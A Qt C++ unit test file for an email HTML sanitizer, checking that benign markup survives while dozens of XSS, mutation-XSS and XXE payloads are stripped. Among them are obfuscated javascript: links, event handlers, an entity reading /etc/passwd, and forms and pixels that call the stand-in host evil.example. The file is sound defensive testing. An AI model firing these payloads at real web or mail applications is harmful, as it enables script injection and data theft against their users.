// SPDX-FileCopyrightText: The Enterprise Support developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "app/server/mail/htmlcleaner.h"

#include <QElapsedTimer>
#include <QRegularExpression>
#include <QTest>

using namespace Qt::StringLiterals;

class tst_HtmlCleaner : public QObject
{
    Q_OBJECT
private slots:
    void keeps_what_people_write_data();
    void keeps_what_people_write();
    void takes_the_sting_out_data();
    void takes_the_sting_out();
    void keeps_the_text_of_what_it_takes_out();
    void text_after_a_silent_element_speaks_again();
    void whole_pages_lose_nothing();
    void a_hundred_thousand_levels_take_no_time();
    void a_huge_attribute_is_dropped_with_its_element_kept();
    void refuses_what_is_too_large();
    void cleaning_twice_changes_nothing();
};

void tst_HtmlCleaner::keeps_what_people_write_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("cleaned");
    QTest::newRow("emphasis") << u"<p>Olá, <b>João</b></p>"_s << u"<p>Olá, <b>João</b></p>"_s;
    QTest::newRow("link") << u"<a href=\"https://example.org/?a=1&amp;b=2\">x</a>"_s
                          << u"<a href=\"https://example.org/?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\">x</a>"_s;
    QTest::newRow("mail link") << u"<a href='mailto:ada@example.org'>x</a>"_s
                               << u"<a href=\"mailto:ada@example.org\" rel=\"noopener noreferrer nofollow\">x</a>"_s;
    QTest::newRow("direction") << u"<p dir=RTL>سلام</p>"_s << u"<p dir=\"rtl\">سلام</p>"_s;
    QTest::newRow("break") << u"a<br>b"_s << u"a<br>b"_s;
    QTest::newRow("cells") << u"<table><tr><td colspan=2>a</td></tr></table>"_s
                           << u"<table><tr><td colspan=\"2\">a</td></tr></table>"_s;
    QTest::newRow("emoji and signs") << u"<p>🎉 1 &lt; 2 &amp; 3</p>"_s << u"<p>🎉 1 &lt; 2 &amp; 3</p>"_s;
    QTest::newRow("unclosed") << u"<p><b>a"_s << u"<p><b>a</b></p>"_s;
    QTest::newRow("image becomes its description") << u"<img src='https://x.y/a.png' alt='a <plan>'>"_s << u"a &lt;plan&gt;"_s;
    QTest::newRow("nothing") << QString() << QString();
}

void tst_HtmlCleaner::keeps_what_people_write()
{
    QFETCH(QString, html);
    QFETCH(QString, cleaned);
    QCOMPARE(cleanedHtml(html).value(), cleaned);
}

void tst_HtmlCleaner::takes_the_sting_out_data()
{
    QTest::addColumn<QString>("html");
    const auto row = [](const char *name, const QString &html) { QTest::newRow(name) << html; };
    row("script", u"<script>alert(1)</script>"_s);
    row("script in capitals", u"<ScRiPt SRC=//evil.example/x.js></sCrIpT>"_s);
    row("script unclosed", u"<script>alert(1)"_s);
    row("script in script", u"<scr<script>ipt>alert(1)</scr</script>ipt>"_s);
    row("style", u"<style>@import url(https://evil.example);</style>"_s);
    row("style attribute", u"<p style='background:url(https://evil.example)'>a</p>"_s);
    row("handler", u"<p onclick=alert(1) ONMOUSEOVER='alert(2)'>a</p>"_s);
    row("handler behind a slash", u"<b/onmouseover=alert(1)>a</b>"_s);
    row("javascript link", u"<a href='javascript:alert(1)'>a</a>"_s);
    row("javascript link with a tab", u"<a href='java&#9;script:alert(1)'>a</a>"_s);
    row("javascript link with controls", u"<a href='&#1;javascript&colon;alert(1)'>a</a>"_s);
    row("javascript link with entities", u"<a href='&#106;&#x61;vascript:alert(1)'>a</a>"_s);
    row("data link", u"<a href='data:text/html,<script>alert(1)</script>'>a</a>"_s);
    row("file link", u"<a href='file:///etc/passwd'>a</a>"_s);
    row("relative link", u"<a href='/portal/sign-out'>a</a>"_s);
    row("link without scheme", u"<a href='//evil.example'>a</a>"_s);
    row("meta refresh", u"<meta http-equiv=refresh content='0;url=https://evil.example'>"_s);
    row("base", u"<base href='https://evil.example/'>"_s);
    row("stylesheet", u"<link rel=stylesheet href='https://evil.example/x.css'>"_s);
    row("form", u"<form action='https://evil.example'><input name=password><button>ok</button></form>"_s);
    row("frame", u"<iframe src='https://evil.example'></iframe>"_s);
    row("frame of a page", u"<iframe srcdoc='<script>alert(1)</script>'></iframe>"_s);
    row("object", u"<object data='x.swf'><embed src='x.swf'></object>"_s);
    row("drawing", u"<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'></a></svg>"_s);
    row("formula", u"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>"_s);
    row("image", u"<img src=x onerror=alert(1)>"_s);
    row("image of a pixel", u"<img src='https://evil.example/seen.gif' width=1>"_s);
    row("attribute breaks out", u"<a href='https://x.y/\"onmouseover=\"alert(1)'>a</a>"_s);
    row("direction breaks out", u"<p dir='rtl\" onclick=\"alert(1)'>a</p>"_s);
    row("comment", u"<!--><script>alert(1)</script>-->"_s);
    row("conditional comment", u"<!--[if IE]><script>alert(1)</script><![endif]-->"_s);
    row("character data", u"<![CDATA[<script>alert(1)</script>]]>"_s);
    row("processing instruction", u"<?php echo 1 ?><?xml-stylesheet href='x'?>"_s);
    row("doctype with an entity", u"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p>"_s);
    row("text area", u"<textarea><script>alert(1)</script></textarea>"_s);
    row("noscript", u"<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"_s);
    row("template", u"<template><script>alert(1)</script></template>"_s);
    row("half a tag", u"<img src=x onerror=alert(1)//"_s);
    row("less-than twice", u"<<script>alert(1)//<</script>"_s);
    row("escaped text stays escaped", u"&lt;script&gt;alert(1)&lt;/script&gt;"_s);
    row("id and class", u"<p id=csrf class=banner name=x>a</p>"_s);
    row("nul in the name", u"<scr"_s + QChar(0) + u"ipt>alert(1)</scr"_s + QChar(0) + u"ipt>"_s);
    row("unknown element", u"<blink><marquee onstart=alert(1)>a</marquee></blink>"_s);
    row("name with a namespace", u"<svg:script>alert(1)</svg:script><x:a href=javascript:1>b</x:a>"_s);
}

/// Whatever came in: only tags of the list, with listed attributes, and links of four schemes.
void tst_HtmlCleaner::takes_the_sting_out()
{
    QFETCH(QString, html);
    const QString cleaned = cleanedHtml(html).value();

    static const QRegularExpression tag(
        u"</?(p|br|div|span|b|strong|i|em|u|s|del|ins|sub|sup|ul|ol|li|pre|code|h[1-6]|hr|blockquote|dl|dt|dd|table|thead|tbody"
        u"|tr|th|td|caption|a)( dir=\"(rtl|ltr|auto)\"| (col|row)span=\"\\d+\")*>"
        u"|<a( dir=\"(rtl|ltr|auto)\")? href=\"(https?|mailto|tel):[^\"<>]*\" rel=\"noopener noreferrer nofollow\">"_s);
    const QString rest = QString(cleaned).remove(tag);
    QVERIFY2(!rest.contains(u'<') && !rest.contains(u'>'), qPrintable(cleaned));
    for (const QString &poison : {u"evil.example/"_s, u"url("_s, u"passwd"_s})
        QVERIFY2(!cleaned.contains(poison), qPrintable(cleaned));
}

void tst_HtmlCleaner::keeps_the_text_of_what_it_takes_out()
{
    QCOMPARE(cleanedHtml(u"<script>alert(1)</script>"_s).value(), QString());
    QCOMPARE(cleanedHtml(u"<form><input><button>ok</button></form>"_s).value(), u"ok"_s);
    QCOMPARE(cleanedHtml(u"<p id=csrf onclick=x>a</p>"_s).value(), u"<p>a</p>"_s);
    QCOMPARE(cleanedHtml(u"<a href='javascript:alert(1)'>a</a>"_s).value(), u"<a>a</a>"_s);
    QCOMPARE(cleanedHtml(u"&lt;script&gt;"_s).value(), u"&lt;script&gt;"_s);
}

void tst_HtmlCleaner::text_after_a_silent_element_speaks_again()
{
    QCOMPARE(cleanedHtml(u"<p>a</p><style>x</style><p>b</p><svg><g><text>c</text></g></svg><p>d</p>"_s).value(),
             u"<p>a</p><p>b</p><p>d</p>"_s);
}

void tst_HtmlCleaner::whole_pages_lose_nothing()
{
    QCOMPARE(cleanedHtml(u"<!DOCTYPE html><html><head><title>t</title><meta charset=utf-8></head><body class=x><p>a</p></body></html>\n"_s)
                 .value().trimmed(), u"<p>a</p>"_s);
    const QString late = cleanedHtml(u"<html><body><p>a</p></body></html><p>b</p>c"_s).value();
    QVERIFY2(late.contains(u"a"_s) && late.contains(u"b"_s) && late.contains(u"c"_s), qPrintable(late));
}

void tst_HtmlCleaner::a_hundred_thousand_levels_take_no_time()
{
    QElapsedTimer timer;
    timer.start();
    const auto cleaned = cleanedHtml(u"<div>"_s.repeated(100'000) + u"deep"_s);
    QVERIFY(cleaned);
    QVERIFY(cleaned->contains(u"deep"_s));
    QVERIFY(cleaned->count(u"<div>"_s) <= 100);
    QCOMPARE(cleaned->count(u"</div>"_s), cleaned->count(u"<div>"_s));
    const auto mixed = cleanedHtml(u"<b><i><a href=x><p><li>"_s.repeated(20'000) + u"deep"_s);
    QVERIFY(mixed && mixed->contains(u"deep"_s));
    QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
}

void tst_HtmlCleaner::a_huge_attribute_is_dropped_with_its_element_kept()
{
    QCOMPARE(cleanedHtml(u"<p title='"_s + u"x"_s.repeated(500'000) + u"'>a</p>"_s).value(), u"<p>a</p>"_s);
}

void tst_HtmlCleaner::refuses_what_is_too_large()
{
    QCOMPARE(cleanedHtml(u"x"_s.repeated(1024 * 1024 + 1)).error().code, u"html.too-large"_s);
}

void tst_HtmlCleaner::cleaning_twice_changes_nothing()
{
    const QString once = cleanedHtml(u"<p>a &amp;amp; <a href='https://x.y/?a&b'>é</a> &nbsp;<p>x"_s).value();
    QCOMPARE(cleanedHtml(once).value(), once);
}

QTEST_GUILESS_MAIN(tst_HtmlCleaner)
#include "tst_htmlcleaner.moc"
